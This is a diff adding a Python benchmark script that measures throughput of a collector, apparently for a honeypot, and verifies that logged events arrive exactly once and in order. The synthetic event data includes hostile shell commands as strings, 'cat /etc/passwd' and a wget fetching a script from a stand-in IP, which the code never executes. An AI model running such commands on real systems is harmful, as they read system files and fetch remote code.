@@ -0,0 +1,148 @@
+"""Sustained throughput of the multi-sensor collector, with its delivery guarantees checked.
+
+Starts collector/collector.py on a Unix socket (or TCP with ``--tcp``)
+writing to a temp log, runs ``--sensors`` local sensor processes that each
+stream ``--events`` synthetic events in batches, and reports events/sec.
+Then verifies the merged log, sealed segments included: every event present exactly once, each
+sensor's sequence numbers contiguous, a resent batch discarded and a
+reconnecting sensor resuming after its last stored seq. Exits non-zero
+on any violation.
+
+    python benchmarks/bench_collector.py --sensors 32 --events 100000 --fsync batch
+"""
+import argparse
+import json
+import multiprocessing
+import os
+import shutil
+import signal
+import socket
+import subprocess
+import sys
+import tempfile
+import time
+from collections import defaultdict
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+COLLECTOR_DIR = os.path.join(os.path.dirname(HERE), "collector")
+sys.path.insert(0, COLLECTOR_DIR)
+sys.path.insert(0, os.path.join(os.path.dirname(HERE), "analyzer"))
+
+from protocol import ACK, SEQ, CollectorClient, encode_batch
+from log_loader import iter_log_range, list_segments
+
+COMMANDS = ["ls", "cat /etc/passwd", "wget http://203.0.113.9/x.sh", "uname -a", "busybox"]
+
+def sensor(address, sensor_id, events, batch_size, compress, ready):
+    client = CollectorClient(address, sensor_id, compress=compress)
+    ip = f"198.51.100.{int(sensor_id.rsplit('-', 1)[1]) % 256}"
+    lines = [json.dumps({"timestamp": "2026-10-18T12:00:00.000000", "source_ip": ip, "port": 2323,
+                         "command": COMMANDS[i % len(COMMANDS)], "status": "received"}) + "\n"
+             for i in range(events)]
+    ready.wait()  # events are generated up front so the clock only sees the transport
+    for i in range(0, events, batch_size):
+        client.send(lines[i:i + batch_size])
+    client.close()
+
+def wait_for(address, proc, timeout=10.0):
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        if proc.poll() is not None:
+            sys.exit("[!] Collector exited during startup")
+        try:
+            if address.startswith("unix:"):
+                with socket.socket(socket.AF_UNIX) as s:
+                    s.connect(address[len("unix:"):])
+            else:
+                socket.create_connection(("127.0.0.1", int(address.rsplit(":", 1)[1])), 1).close()
+            return
+        except OSError:
+            time.sleep(0.05)
+    sys.exit("[!] Collector did not come up")
+
+def check(name, ok, detail):
+    print(f"[{'✓' if ok else '!'}] {name:<40}{detail}")
+    return ok
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("--sensors", type=int, default=16)
+    parser.add_argument("--events", type=int, default=50_000, help="events per sensor")
+    parser.add_argument("--batch", type=int, default=512, help="events per batch (BatchLogWriter default)")
+    parser.add_argument("--fsync", default="batch", choices=["never", "batch", "interval"])
+    parser.add_argument("--no-compress", action="store_true")
+    parser.add_argument("--tcp", type=int, metavar="PORT", help="use TCP on this port instead of a Unix socket")
+    parser.add_argument("--segment-mb", type=float, default=64, help="roll the merged log at this size")
+    args = parser.parse_args()
+
+    tmp = tempfile.mkdtemp(prefix="bench_collector_")
+    output = os.path.join(tmp, "attacks.log")
+    state = os.path.join(tmp, "collector.json")
+    if args.tcp:
+        address, listen = f"127.0.0.1:{args.tcp}", ["--host", "127.0.0.1", "--port", str(args.tcp)]
+    else:
+        path = os.path.join(tmp, "collector.sock")
+        address, listen = f"unix:{path}", ["--unix", path]
+    proc = subprocess.Popen([sys.executable, os.path.join(COLLECTOR_DIR, "collector.py"), *listen,
+                             "--output", output, "--state", state, "--fsync", args.fsync,
+                             "--segment-mb", str(args.segment_mb)],
+                            stdout=subprocess.DEVNULL)
+    ok = True
+    try:
+        wait_for(address, proc)
+        ids = [f"sensor-{i:03d}" for i in range(args.sensors)]
+        ready = multiprocessing.Barrier(args.sensors + 1)
+        procs = [multiprocessing.Process(target=sensor, args=(address, sensor_id, args.events, args.batch,
+                                                                not args.no_compress, ready))
+                 for sensor_id in ids]
+        for p in procs:
+            p.start()
+        ready.wait()
+        start = time.perf_counter()
+        for p in procs:
+            p.join()
+        elapsed = time.perf_counter() - start
+        if any(p.exitcode for p in procs):
+            sys.exit("[!] A sensor process failed")
+        total = args.sensors * args.events
+        print(f"[*] {args.sensors} sensors x {args.events:,} events, batch {args.batch}, fsync {args.fsync}, "
+              f"{'tcp' if args.tcp else 'unix'}, compression {'off' if args.no_compress else 'on'}")
+        print(f"[+] {total:,} events in {elapsed:.2f}s → {total / elapsed:,.0f} events/s "
+              f"({total / elapsed / args.batch:,.0f} acked batches/s)")
+
+        # A sensor reconnecting resumes after its stored seq, and a resent batch is discarded
+        client = CollectorClient(address, ids[0])
+        client.send([])
+        ok &= check("Reconnect resumes after stored seq", client.next_seq == args.events + 1,
+                    f"next seq {client.next_seq}")
+        client._sock.sendall(encode_batch(1, ['{"command": "resent"}\n']))
+        acked = SEQ.unpack(client._expect(client._sock, ACK))[0]
+        ok &= check("Resent batch acked, not rewritten", acked == args.events, f"ack {acked}")
+        client.close()
+    finally:
+        proc.send_signal(signal.SIGINT)
+        proc.wait(timeout=30)
+
+    seqs = defaultdict(list)
+    lines = 0
+    # The merged log may have been rolled into sealed segments meanwhile
+    for chunk in iter_log_range(path=output):
+        for sensor_id, group in chunk.groupby(chunk["sensor"].astype(str), sort=False)["seq"]:
+            seqs[sensor_id].extend(group.astype(int))
+        lines += len(chunk)
+    ok &= check("Every event written exactly once", lines == total, f"{lines:,} lines")
+    contiguous = all(sorted(s) == list(range(1, args.events + 1)) for s in seqs.values())
+    ok &= check("Per-sensor seqs contiguous from 1", contiguous and len(seqs) == args.sensors,
+                f"{len(seqs)} sensors")
+    with open(state, encoding="utf-8") as f:
+        stored = json.load(f)["sensors"]
+    ok &= check("State: no loss, one duplicate counted",
+                all(s["lost"] == 0 for s in stored.values()) and stored[ids[0]]["duplicates"] == 1,
+                f"lost {sum(s['lost'] for s in stored.values())}, dup {stored[ids[0]]['duplicates']}")
+    segments = list_segments(output)
+    print(f"[*] Merged log {os.path.getsize(output) / 2**20:.1f} MB live + {len(segments)} sealed segments")
+    shutil.rmtree(tmp)
+    sys.exit(0 if ok else 1)
+
+if __name__ == "__main__":
+    main()